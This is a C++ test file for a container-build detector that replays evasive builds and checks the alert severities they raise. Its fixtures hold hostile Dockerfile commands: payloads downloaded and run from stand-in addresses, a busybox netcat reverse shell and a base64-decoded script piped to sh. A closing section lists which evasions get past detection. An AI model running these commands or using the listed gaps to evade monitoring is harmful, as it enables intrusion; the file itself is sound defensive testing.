// Attacks that know the rules, played after a company's builds were learnt: what is told of them,
// and what gets through. What does stands in docs/detection.md; here it is held to that.
#include <algorithm>
#include <catch2/catch_test_macros.hpp>
#include <map>

#include "corpus/company.h"

namespace kilnwatch::test::corpus {
namespace {

constexpr std::uint64_t kHour = 3'600'000;  // ms
constexpr std::uint64_t kStart = 1'000'000;

struct Evasion {
  std::string name;
  Build build;
  v1::Severity egress = v1::SEVERITY_UNSPECIFIED;  // unspecified: no alert
  v1::Severity deploy = v1::SEVERITY_UNSPECIFIED;
};

Step line(const std::string& text, std::vector<Fetch> fetches = {},
          std::vector<Executed> executes = {}) {
  return {text, text.starts_with("RUN"), text.starts_with("FROM"),
          {},   std::move(fetches),      std::move(executes)};
}

Fetch from(unsigned n, const std::string& program, std::vector<std::string> args) {
  Fetch fetch;
  fetch.name = fetch.address = "203.0.113." + std::to_string(n);
  fetch.port = 8080;
  fetch.tls = false;
  fetch.program = program;
  fetch.args = std::move(args);
  fetch.answer = Answer::kNothing;
  return fetch;
}

Fetch known(const std::string& name) {
  Fetch fetch;
  fetch.name = name;
  fetch.args = {"curl", "-o", "/opt/p", "https://" + name + "/p"};
  return fetch;
}

Evasion evasion(const std::string& name, std::vector<Step> steps, v1::Severity egress,
                v1::Severity deploy) {
  Evasion out;
  out.name = name;
  out.egress = egress;
  out.deploy = deploy;
  Build& build = out.build;
  build.id = "evasion " + name;
  build.tag = "kw-" + name + ":1";
  steps.insert(steps.begin(), line("FROM registry.company.test/alpine:3.20"));
  build.plan = {name, {}, std::move(steps), {"registry.company.test/alpine:3.20"}};
  for (const Step& step : build.plan.steps) build.plan.dockerfile += step.text + "\n";
  build.asker.args = {"docker", "build", "-t", build.tag, "."};
  build.run = Run{"run-" + name};
  return out;
}

std::vector<Evasion> evasions() {
  constexpr auto kNone = v1::SEVERITY_UNSPECIFIED;
  constexpr auto kLow = v1::SEVERITY_LOW;
  constexpr auto kHigh = v1::SEVERITY_HIGH;
  constexpr auto kCritical = v1::SEVERITY_CRITICAL;
  std::vector<Evasion> out;
  const auto wget = [](unsigned n) {
    return from(n, "/usr/bin/wget", {"wget", "-O", "/opt/p", "http://203.0.113.1/x"});
  };
  auto stage = evasion("other-stage",
                       {line("RUN wget -O /opt/p http://203.0.113.1/x", {wget(101)}),
                        line("FROM registry.company.test/alpine:3.20"),
                        line("COPY --from=0 /opt/p /opt/p"), line("CMD [\"/opt/p\"]")},
                       kHigh, kCritical);
  stage.build.builder = Builder::kClassic;  // its client sends the file
  out.push_back(stage);
  out.push_back(evasion("renamed",
                        {line("RUN wget -O /opt/p http://203.0.113.1/x && mv /opt/p /q && /q",
                              {wget(102)}, {{"/bin/mv", {"mv", "/opt/p", "/q"}}, {"/q", {"/q"}}})},
                        kHigh, kHigh));
  out.push_back(evasion("by-loader",
                        {line("RUN wget -O /opt/p http://203.0.113.1/x && /lib/ld-musl-x86_64.so.1 "
                              "/opt/p",
                              {wget(103)}, {{"/lib/ld-musl-x86_64.so.1", {"ld", "/opt/p"}}})},
                        kHigh, kCritical));
  out.push_back(evasion(
      "by-busybox",
      {line(
          "RUN busybox wget -O /opt/p http://203.0.113.1/x && busybox sh /opt/p",
          {from(104, "/bin/busybox", {"busybox", "wget", "-O", "/opt/p", "http://203.0.113.1/x"})},
          {{"/bin/busybox", {"busybox", "sh", "/opt/p"}}})},
      kHigh, kCritical));
  out.push_back(evasion("busybox-shell",
                        {line("RUN busybox nc 203.0.113.105 8080 -e /bin/sh",
                              {from(105, "/bin/busybox",
                                    {"busybox", "nc", "203.0.113.105", "8080", "-e", "/bin/sh"})})},
                        kCritical, kCritical));
  out.push_back(evasion(
      "by-python",
      {line("RUN python3 /get.py", {from(106, "/usr/bin/python3", {"python3", "/get.py"})})}, kHigh,
      kHigh));
  out.push_back(evasion("dev-tcp",
                        {line("RUN bash /x.sh", {from(107, "/bin/bash", {"bash", "/x.sh"})})},
                        kCritical, kCritical));
  auto slow = evasion("slow",
                      {line("RUN wget -O /opt/p http://203.0.113.1/x", {wget(108)}),
                       line("RUN /opt/p", {}, {{"/opt/p", {"/opt/p"}}})},
                      kHigh, kCritical);
  slow.build.pace = 5 * kHour;
  slow.build.builder = Builder::kClassic;
  out.push_back(slow);
  auto client =
      evasion("other-client", {line("RUN wget http://203.0.113.1/x", {wget(109)})}, kHigh, kHigh);
  client.build.run->after = 20 * kHour;
  out.push_back(client);
  // A name that builds know, at an address that is new: told, and no more than that.
  auto silent = known("pypi.test");
  silent.silent = true;
  out.push_back(
      evasion("silent-on-front", {line("RUN curl https://pypi.test", {silent})}, kLow, kLow));
  // The engine fetches for the step. BuildKit fills in what a variable stands for.
  auto added = from(111, "", {});
  added.path = "/p";
  out.push_back(evasion(
      "by-add",
      {line("ADD http://203.0.113.111:8080/p /p", {added}), line("RUN /p", {}, {{"/p", {"/p"}}})},
      kHigh, kHigh));
  added.name = added.address = "203.0.113.112";
  auto argument = evasion("by-add-of-argument",
                          {line("ARG HOST=203.0.113.112"),
                           line("ADD http://$HOST:8080/p /p", {added}), line("CMD [\"/p\"]")},
                          kHigh, kCritical);
  argument.build.builder = Builder::kClassic;
  out.push_back(argument);
  // What gets through.
  auto days =
      evasion("days-later", {line("RUN wget http://203.0.113.1/x", {wget(110)})}, kHigh, kNone);
  days.build.run->after = 30 * kHour;
  out.push_back(days);
  out.push_back(evasion("known-place",
                        {line("RUN curl -o /opt/p https://artifacts.company.test/p && /opt/p",
                              {known("artifacts.company.test")}, {{"/opt/p", {"/opt/p"}}})},
                        kNone, kLow));
  out.push_back(
      evasion("in-the-file",
              {line("RUN echo aGk= | base64 -d > /p && sh /p", {}, {{"/bin/sh", {"sh", "/p"}}})},
              kNone, kLow));
  return out;
}

}  // namespace

TEST_CASE("attacks that know the rules are told as the documentation says") {
  const Company here = company();
  Site site(here.internet, 1);
  const auto builds = season(here.plans, {kStart, 200, 3, Habit::kPlain});
  for (const auto& [ms, build] : builds) site.play(build, ms);
  const auto all = evasions();
  std::uint64_t ms = builds.back().ms + kHour;
  for (const Evasion& one : all) ms = site.play(one.build, ms) + 60'000;
  const auto alerts = run_pipeline(kBuilder, site.events(), Baseline::kEmpty);
  std::map<std::string, v1::Severity> worst;
  for (const auto& alert : alerts) {
    for (const auto& tag : alert.build().request().tags())
      worst[tag + " " + alert.rule()] = std::max(worst[tag + " " + alert.rule()], alert.severity());
  }
  for (const Evasion& one : all) {
    INFO(one.name);
    CHECK(v1::Severity_Name(worst[one.build.tag + " build-egress"]) ==
          v1::Severity_Name(one.egress));
    CHECK(v1::Severity_Name(worst[one.build.tag + " image-deploy"]) ==
          v1::Severity_Name(one.deploy));
  }
}

}  // namespace kilnwatch::test::corpus
